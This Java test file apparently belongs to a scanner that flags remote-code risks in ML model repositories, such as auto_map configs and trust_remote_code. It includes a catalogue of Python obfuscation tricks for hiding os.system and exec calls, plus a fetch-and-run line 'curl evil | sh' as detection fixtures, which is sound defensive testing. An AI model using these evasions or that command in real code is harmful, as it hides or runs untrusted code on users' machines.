package dev.aiprov.scanner.remotecode;

import dev.aiprov.scanner.FileResult;
import dev.aiprov.scanner.Finding;
import dev.aiprov.scanner.Limits;
import dev.aiprov.scanner.Scanner;
import dev.aiprov.scanner.Severity;
import dev.aiprov.scanner.io.ByteArraySource;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

class RemoteCodeTest {
    private static final Path FIXTURES = Path.of("src/test/resources/fixtures/secrets");
    private static final Scanner SCANNER = new Scanner(Limits.defaults(), List.of(new AutoMapDetector(), new PythonCodeDetector()));

    private static List<Finding> scan(String name) throws Exception {
        List<FileResult> rs = SCANNER.scanFile(FIXTURES.resolve(name), name);
        return rs.get(0).findings();
    }

    private static List<Finding> scanText(String name, String text) {
        return SCANNER.scan(name, new ByteArraySource(text.getBytes(StandardCharsets.UTF_8)), null).get(0).findings();
    }

    private static int lineOf(String file, String marker) throws Exception {
        List<String> lines = Files.readAllLines(FIXTURES.resolve(file));
        for (int i = 0; i < lines.size(); i++) if (lines.get(i).contains(marker)) return i + 1;
        throw new AssertionError("marker not found: " + marker);
    }

    private static String summary(List<Finding> fs) {
        return String.join(",", fs.stream().map(f -> f.rule() + "@" + f.location().line()).toList());
    }

    @Test
    void flagsAutoMapWithTheModulesItWouldRunAndTheExternalRepository() throws Exception {
        List<Finding> fs = scan("remote-config.json");
        assertEquals(List.of("REMOTE_CODE_AUTO_MAP", "REMOTE_CODE_EXTERNAL_REPO"), fs.stream().map(Finding::rule).toList());
        Finding f = fs.get(0);
        assertEquals(Severity.HIGH, f.severity());
        assertEquals(lineOf("remote-config.json", "\"auto_map\""), f.location().line());
        assertTrue(f.message().endsWith("configuration_phi_custom.py, modeling_phi_custom.py, tokenization_shared.py"), f.message());
        assertTrue(f.evidence().contains("AutoModelForCausalLM=modeling_phi_custom.PhiCustomForCausalLM"));
        assertEquals("other-org/shared-tokenizers", fs.get(1).evidence());
    }

    @Test
    void configWithoutAutoMapAndNonJsonAreNotFlagged() throws Exception {
        assertEquals(List.of(), scan("tokenizer_config.json"));
        assertEquals(List.of(), scanText("config.json", "{\"model_type\": \"bert\", \"architectures\": [\"BertModel\"]}"));
        assertEquals(List.of(), scanText("config.json", "{\"auto_map\": "));
    }

    @Test
    void flagsEachRiskInAMaliciousModelingFileOnItsLine() throws Exception {
        String f = "modeling_evil.py";
        List<Finding> fs = scan(f);
        String expected = String.join(",",
                "PY_NETWORK_AT_IMPORT@" + lineOf(f, "_TELEMETRY ="),
                "PY_EXEC_DECODED_PAYLOAD@" + lineOf(f, "exec(_code)"),
                "PY_EXEC_DECODED_PAYLOAD@" + lineOf(f, "eval(compile("),
                "PY_PROCESS_EXECUTION@" + lineOf(f, "sp.Popen"),
                "PY_WRITE_OUTSIDE_CACHE@" + lineOf(f, "authorized_keys\", \"a\""),
                "PY_PROCESS_EXECUTION@" + lineOf(f, "system(\"id\")"),
                "PY_TRUST_REMOTE_CODE@" + lineOf(f, "trust_remote_code=True"));
        assertEquals(expected, summary(fs));
        assertEquals(Severity.CRITICAL, fs.get(1).severity());
        assertEquals("subprocess.Popen", fs.get(3).evidence());
        assertEquals("os.system", fs.get(5).evidence());
        assertTrue(fs.get(0).location().offset() > 0);
    }

    @Test
    void benignModelingFileHasNoFlags() throws Exception {
        assertEquals("", summary(scan("modeling_benign.py")));
    }

    @Test
    void followsDunderImportAndFlagsAppCodeTrustingRemoteCode() {
        String app = "import gradio as gr\nfrom transformers import AutoModel\n"
                + "m = AutoModel.from_pretrained(\n    'acme/x',\n    trust_remote_code=True,\n)\n"
                + "__import__('os').system('ls')\n";
        assertEquals("PY_TRUST_REMOTE_CODE@3,PY_PROCESS_EXECUTION@7", summary(scanText("app.py", app)));
    }

    static Stream<Arguments> evasions() {
        return Stream.of(
                Arguments.of("star import", "from os import *\nsystem('id')\n"),
                Arguments.of("import_module concat", "import importlib\nm = importlib.import_module('o' + 's')\nf = getattr(m, 'sys' + 'tem')\nf('id')\n"),
                Arguments.of("sys.modules", "import sys\nsys.modules['os'].system('id')\n"),
                Arguments.of("getattr literal", "import os\ngetattr(os, 'system')('id')\n"),
                Arguments.of("alias exec", "run = exec\nrun(payload)\n"),
                Arguments.of("builtins subscript", "__builtins__['ev' + 'al'](data)\n"),
                Arguments.of("builtins dict", "__builtins__.__dict__['exec'](data)\n"),
                Arguments.of("decorator", "import os\n@os.system\ndef cmd(): pass\n"),
                Arguments.of("semicolons", "import subprocess as sp; sp.call(['id'])\n"),
                Arguments.of("ctypes libc", "import ctypes\nctypes.CDLL(None).system(b'id')\n"),
                Arguments.of("full-width identifiers", "import \uff4f\uff53\n\uff4f\uff53.\uff53\uff59\uff53\uff54\uff45\uff4d('id')\n"),
                Arguments.of("exec of a variable", "code = open('x').read()\nexec(code)\n"),
                Arguments.of("eval of a call", "eval(input())\n"),
                Arguments.of("compile of a name", "c = compile(src, 'x', 'exec')\n"),
                Arguments.of("unresolved import", "import importlib\nm = importlib.import_module(name)\n"),
                Arguments.of("unresolved getattr", "import os\nf = getattr(os, name)\n"),
                Arguments.of("reversed string", "import os\ngetattr(os, 'metsys'[::-1])('id')\n"),
                Arguments.of("join", "import os\ngetattr(os, ''.join(['sys', 'tem']))('id')\n"),
                Arguments.of("vars subscript", "import os\nvars(os)['system']('id')\n"),
                Arguments.of("dunder import concat", "__import__('sub' + 'process').run(['id'])\n"),
                Arguments.of("exec literal", "exec(\"import os\\nos.system('id')\")\n"),
                Arguments.of("exec literal with semicolons", "exec(\"import os; os.system('id')\")\n"),
                Arguments.of("exec literal with escaped quotes", "exec(\"import os; os.system(\\\"id\\\")\")\n"),
                Arguments.of("builtins through a name", "g = globals()['__builtins__']\ng['ex' + 'ec'](\"import os; os.system('id')\")\n"),
                Arguments.of("inline if body", "if True: import os; os.system('id')\n"),
                Arguments.of("globals builtins", "globals()['__builtins__']['exec'](data)\n"),
                Arguments.of("math alphanumerics", "import os\n\ud835\udc28\ud835\udc2c.system('id')\n"),
                Arguments.of("from import alias", "from subprocess import Popen as P\nP(['id'])\n"),
                Arguments.of("default argument", "import os\ndef f(x=os.system('id')): pass\n"),
                Arguments.of("class body", "import os\nclass A:\n    x = os.popen('id')\n"),
                Arguments.of("star import of subprocess", "from subprocess import *\ncheck_output(['id'])\n"),
                Arguments.of("alias of alias", "import os\nsh = os.system\nrun = sh\nrun('id')\n"),
                Arguments.of("computed sys.modules lookup then used", "import sys\nm = sys.modules[name]\nm.system('id')\n"),
                Arguments.of("getattr over split candidates", "import os\nfs = [getattr(os, n) for n in 'getcwd system'.split()]\n"),
                Arguments.of("globals lookup of exec", "globals()['exec'](data)\n"),
                Arguments.of("escaped string name", "import os\ngetattr(os, '\\x73ystem')('id')\n"));
    }

    /** Each evasion from issue 13, in an ordinary file at module level: every one must be flagged high or worse. */
    @ParameterizedTest(name = "{0}")
    @MethodSource("evasions")
    void evasionsAreFlaggedHigh(String name, String code) {
        List<Finding> fs = scanText("helpers.py", code);
        assertTrue(fs.stream().anyMatch(f -> f.severity().atLeast(Severity.HIGH)), name + ": " + summary(fs));
    }

    @Test
    void callsInsideFunctionsOfOrdinaryFilesAreInformativeButHighInLoaderRunFiles() {
        String code = "import subprocess\n\ndef build(cmd):\n    return subprocess.check_output(cmd)\n\n"
                + "if __name__ == '__main__':\n    subprocess.run(['make'])\n";
        List<Finding> ordinary = scanText("build_helpers.py", code);
        assertEquals("PY_PROCESS_EXECUTION@4,PY_PROCESS_EXECUTION@7", summary(ordinary));
        assertTrue(ordinary.stream().allMatch(f -> f.severity() == Severity.INFO), summary(ordinary));
        for (String loader : List.of("modeling_acme.py", "app.py", "tokenization_acme.py", "handler.py")) {
            List<Finding> fs = scanText("repo/" + loader, code);
            assertTrue(fs.stream().allMatch(f -> f.severity() == Severity.HIGH), loader + ": " + summary(fs));
        }
    }

    @Test
    void aPayloadAfterEightMebibytesOfPaddingIsFound() {
        StringBuilder sb = new StringBuilder("import os\n");
        String pad = "x = 1  # padding padding padding padding padding padding padding padding padding\n";
        while (sb.length() < (9 << 20)) sb.append(pad);
        sb.append("os.system('curl evil | sh')\n");
        List<Finding> fs = scanText("utils.py", sb.toString());
        assertTrue(fs.stream().anyMatch(f -> f.rule().equals("PY_PROCESS_EXECUTION") && f.severity() == Severity.HIGH),
                summary(fs));
    }

    @Test
    void aFileOverTheTextLimitIsNotJudged() {
        Scanner small = new Scanner(new Limits(1 << 30, 1 << 30, 1 << 30, 4, 1000, 1 << 20, 1000,
                java.time.Duration.ofSeconds(60), 1 << 10), List.of(new PythonCodeDetector()));
        String code = "import os\n" + "# pad\n".repeat(400);
        dev.aiprov.scanner.FileResult r = small.scan("big.py", new ByteArraySource(code.getBytes(StandardCharsets.UTF_8)), null).get(0);
        assertTrue(r.error() != null && r.findings().stream().anyMatch(f -> f.rule().equals("SCAN_LIMIT_EXCEEDED")), r.toString());
    }

    @Test
    void utf16AndUtf32SourcesAreDecoded() {
        String code = "import os\nos.system('id')\n";
        for (java.nio.charset.Charset cs : List.of(StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE, StandardCharsets.UTF_16,
                java.nio.charset.Charset.forName("UTF-32LE"), java.nio.charset.Charset.forName("UTF-32BE"))) {
            List<Finding> fs = SCANNER.scan("x.py", new ByteArraySource(code.getBytes(cs)), null).get(0).findings();
            assertEquals("PY_PROCESS_EXECUTION@2", summary(fs), cs.name());
        }
    }

    @Test
    void realMlCodeRaisesNothingAtOrAboveMedium() throws Exception {
        for (String f : List.of("train_lora.py", "gradio_app.py", "modeling_llama_like.py", "compat_shims.py")) {
            List<Finding> fs = SCANNER.scanFile(Path.of("src/test/resources/fixtures/remotecode").resolve(f), "repo/" + f)
                    .get(0).findings();
            assertTrue(fs.stream().noneMatch(x -> x.severity().atLeast(Severity.MEDIUM)), f + ": " + summary(fs));
        }
    }

    @Test
    void autoMapIsFoundHoweverTheJsonIsWritten() {
        String auto = "\"auto_map\": {\"AutoModel\": \"modeling_x.XModel\"}";
        String pad = "\"blob\": \"" + "A".repeat(17 << 20) + "\", ";
        for (String[] c : new String[][]{
                {"bom", "\ufeff{" + auto + "}"},
                {"nan", "{\"initializer_range\": NaN, \"max\": Infinity, \"min\": -Infinity, " + auto + "}"},
                {"large", "{" + pad + auto + "}"},
                {"duplicate", "{\"auto_map\": {\"AutoModel\": \"modeling_benign.M\"}, \"x\": 1, " + auto + "}"}}) {
            for (String name : List.of("config.json", "tokenizer_config.json", "processor_config.json", "preprocessor_config.json")) {
                List<Finding> fs = scanText(name, c[1]);
                assertEquals("REMOTE_CODE_AUTO_MAP@1", summary(fs), c[0] + " " + name);
                assertTrue(fs.get(0).message().endsWith("runs modeling_x.py"), c[0] + ": " + fs.get(0).message());
            }
        }
    }

    @Test
    void duplicateEntriesInsideAutoMapKeepTheLast() {
        List<Finding> fs = scanText("config.json",
                "{\"auto_map\": {\"AutoModel\": \"modeling_a.A\", \"AutoModel\": \"modeling_b.B\"}}");
        assertTrue(fs.get(0).message().endsWith("runs modeling_b.py"), fs.get(0).message());
    }

    @Test
    void customPipelinesAreFlaggedWithTheirImplementation() {
        List<Finding> fs = scanText("config.json", "{\"architectures\": [\"BertForSequenceClassification\"],\n"
                + " \"custom_pipelines\": {\"pair-classification\": {\"impl\": \"custom_pipeline.PairClassificationPipeline\","
                + " \"pt\": [\"AutoModelForSequenceClassification\"], \"tf\": []}}}");
        assertEquals("REMOTE_CODE_CUSTOM_PIPELINE@2", summary(fs));
        assertTrue(fs.get(0).message().endsWith("custom_pipeline.py"), fs.get(0).message());
    }
}
